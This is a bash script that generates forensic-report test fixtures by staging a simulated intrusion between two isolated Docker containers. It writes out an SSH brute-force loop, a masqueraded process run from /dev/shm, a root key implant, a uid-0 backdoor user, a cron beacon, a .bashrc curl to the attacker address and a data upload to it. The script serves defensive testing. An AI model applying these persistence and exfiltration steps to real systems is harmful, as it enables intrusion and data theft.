#!/usr/bin/env bash
# Regenerate the evidence bundles the report's unit tests read (tests/unit/fixtures/report/).
# For each distro: a systemd target container and an attacker container on a network of
# their own; a short "night" is played on the target (SSH brute force from the attacker,
# a CPU burner run by a service account from /dev/shm, a process left running from a
# deleted binary, an upload to the attacker, an added root key, a uid-0 user, a per-minute
# cron job later deleted, plus benign work: a package install, logrotate, the owner's own
# login), then playbooks/collect_evidence.yml collects over SSH as the owner would, and the
# bundle is trimmed to the members the report reads (tests/scripts/trim_bundle.py).
# Every loop is bounded; traffic stays on the network made here. Run again after the bundle
# format changes.  Usage: tests/scripts/make_report_fixtures.sh [debian12 debian13]
set -euo pipefail
cd "$(dirname "$0")/../.."
[ -d .venv/bin ] && export PATH="$PWD/.venv/bin:$PATH"
export ANSIBLE_CONFIG="$PWD/ansible.cfg"
distros="${*:-debian12 debian13}"
net=qn-h5-net
cache="${QN_APT_CACHE_ROOT:-/var/cache/qn-apt-report}"
state="$PWD/tests/output/report-fixtures"
fixtures="$PWD/tests/unit/fixtures/report"
night_s="${QN_NIGHT_SECONDS:-240}"
mkdir -p "$state" "$fixtures"
containers=()
cleanup() {
  for c in "${containers[@]}"; do docker rm -f "$c" >/dev/null 2>&1 || true; done
  docker network rm "$net" >/dev/null 2>&1 || true
}
trap cleanup EXIT
docker network inspect "$net" >/dev/null 2>&1 || docker network create --subnet 172.31.213.0/24 "$net" >/dev/null
gateway=172.31.213.1

[ -f "$state/owner_ed25519" ] || ssh-keygen -q -t ed25519 -N '' -C owner@controller -f "$state/owner_ed25519"

attacker=qn-h5-attacker
containers+=("$attacker")
bash tests/scripts/vps.sh boot "$attacker" quietnode/debian12:latest --network "$net" --ip 172.31.213.66 \
  --volume "$cache/debian12-attacker:/var/cache/apt/archives:rw"
docker exec "$attacker" sh -c 'ssh-keygen -q -t ed25519 -N "" -C implant -f /root/implant && printf "#!/bin/sh\necho wrong-password\n" > /root/askpass && chmod 700 /root/askpass'

ip_last=10
for distro in $distros; do
  name="qn-h5-$distro"
  ip="172.31.213.$ip_last"; ip_last=$((ip_last + 1))
  containers+=("$name")
  mkdir -p "$cache/$distro"
  bash tests/scripts/vps.sh boot "$name" "quietnode/$distro:latest" --network "$net" --ip "$ip" \
    --volume "$cache/$distro:/var/cache/apt/archives:rw"
  in_ct() { docker exec -i "$name" "$@"; }
  echo "[$distro] installing the recorders" >&2
  in_ct bash -euc 'export DEBIAN_FRONTEND=noninteractive
    apt-get update -qq
    apt-get install -y -qq --no-install-recommends rsyslog acct sysstat fail2ban nftables python3-systemd logrotate >/dev/null
    sed -i "s/^ENABLED=.*/ENABLED=\"true\"/" /etc/default/sysstat
    printf "[DEFAULT]\nbanaction = nftables-multiport\n[sshd]\nenabled = true\nbackend = auto\nlogpath = /var/log/auth.log\nmaxretry = 4\nfindtime = 10m\n" > /etc/fail2ban/jail.d/zz-fixture.local
    if sshd -T 2>/dev/null | grep -qi ^persourcepenalties; then echo "PerSourcePenalties no" > /etc/ssh/sshd_config.d/00-fixture.conf; fi
    systemctl restart rsyslog ssh
    systemctl start acct cron
    systemctl restart fail2ban
    # Docker mounts /dev/shm noexec; a VPS does not.
    mount -o remount,exec /dev/shm
    id owner >/dev/null 2>&1 || useradd -m -s /bin/bash owner
    echo "owner ALL=(ALL) NOPASSWD: ALL" > /etc/sudoers.d/owner && chmod 440 /etc/sudoers.d/owner
    install -d -m 700 -o owner -g owner ~owner/.ssh'
  in_ct sh -c 'cat > ~owner/.ssh/authorized_keys && chown owner: ~owner/.ssh/authorized_keys' <"$state/owner_ed25519.pub"
  # The window opens after the set-up, so set-up is not read as the night's activity.
  sleep 61
  since="$(date -u +%Y-%m-%dT%H:%M:%SZ)"
  echo "[$distro] night from $since, ${night_s}s" >&2
  # sysstat every 10 s over the night (sadc's minimum useful step here); the report folds to minutes.
  in_ct bash -c "sa1=\$(ls /usr/lib/sysstat/sa1 /usr/libexec/sysstat/sa1 2>/dev/null | head -1)
    setsid -f \$sa1 10 $((night_s / 10 + 3)) </dev/null >/dev/null 2>&1"
  sleep 15
  # The brute force: 8 connections, 3 password prompts each, four user names.
  docker exec "$attacker" bash -c "for u in root admin oracle root ubuntu admin root test; do
      SSH_ASKPASS=/root/askpass SSH_ASKPASS_REQUIRE=force timeout 15 ssh -o StrictHostKeyChecking=no \
        -o UserKnownHostsFile=/dev/null -o PreferredAuthentications=password -o PubkeyAuthentication=no \
        -o NumberOfPasswordPrompts=3 -o ConnectTimeout=5 \$u@$ip true </dev/null >/dev/null 2>&1 || true
    done"
  sleep 10
  # A service account runs a CPU burner from /dev/shm for 60 s; the binary is removed afterwards.
  in_ct bash -euc 'cp /usr/bin/sha256sum /dev/shm/.kworkerd && chmod 755 /dev/shm/.kworkerd
    setsid -f su -s /bin/sh www-data -c "timeout 60 /dev/shm/.kworkerd /dev/zero" </dev/null >/dev/null 2>&1
    cp /bin/sleep /tmp/.x && setsid -f su -s /bin/sh www-data -c "/tmp/.x 3600" </dev/null >/dev/null 2>&1
    sleep 1; rm -f /tmp/.x'
  # Persistence: a key for root, a uid-0 account, a per-minute cron job, a line in root's .bashrc.
  docker exec "$attacker" cat /root/implant.pub | in_ct sh -c 'mkdir -p /root/.ssh && cat >> /root/.ssh/authorized_keys'
  in_ct bash -euc 'useradd -o -u 0 -g 0 -M -d /root -s /bin/bash sysupd
    echo "* * * * * root /bin/true qn-beacon" > /etc/cron.d/qn-beacon
    echo "curl -s http://172.31.213.66:9/ >/dev/null 2>&1 &" >> /root/.bashrc'
  # 30 MB uploaded to the attacker, bounded by size and time.
  docker exec "$attacker" bash -c 'setsid -f timeout 120 python3 -c "
import socket
s = socket.socket(); s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1); s.bind((\"0.0.0.0\", 9000)); s.listen(1)
c, _ = s.accept()
while c.recv(1 << 16):
    pass
" </dev/null >/dev/null 2>&1'
  sleep 2
  in_ct su -s /bin/sh www-data -c 'timeout 60 python3 -c "
import socket
s = socket.create_connection((\"172.31.213.66\", 9000), timeout=10)
block = bytes(1 << 16)
for _ in range(480):
    s.sendall(block)
s.close()
"'
  # Benign scheduled work and a package install.
  in_ct bash -c 'systemctl start logrotate.service; DEBIAN_FRONTEND=noninteractive apt-get install -y -qq --no-install-recommends tree >/dev/null'
  sleep 70
  in_ct rm -f /etc/cron.d/qn-beacon
  left=$(( night_s - 120 - 15 - 10 ))
  [ "$left" -le 0 ] || sleep "$left"
  cat >"$state/inventory-$distro.yml" <<EOF
all:
  hosts:
    $name:
      ansible_host: $ip
      ansible_user: owner
      ansible_ssh_private_key_file: $state/owner_ed25519
      ansible_ssh_common_args: "-o StrictHostKeyChecking=no -o UserKnownHostsFile=/dev/null"
      ansible_python_interpreter: /usr/bin/python3
      quietnode_management_allowlist: ["$gateway"]
EOF
  rm -rf "$state/evidence-$distro"
  echo "[$distro] collecting" >&2
  ansible-playbook -i "$state/inventory-$distro.yml" playbooks/collect_evidence.yml \
    -e "since=$since" -e "local_dir=$state/evidence-$distro" -e "report=false" -e '{"exclude": ["integrity"]}' \
    >"$state/collect-$distro.log" 2>&1 || { tail -30 "$state/collect-$distro.log"; exit 1; }
  bundle="$(ls "$state/evidence-$distro/$name"/*/*.tar.gz)"
  python3 tests/scripts/trim_bundle.py "$bundle" "$fixtures/$distro.tar.gz"
  ls -l "$fixtures/$distro.tar.gz" >&2
done
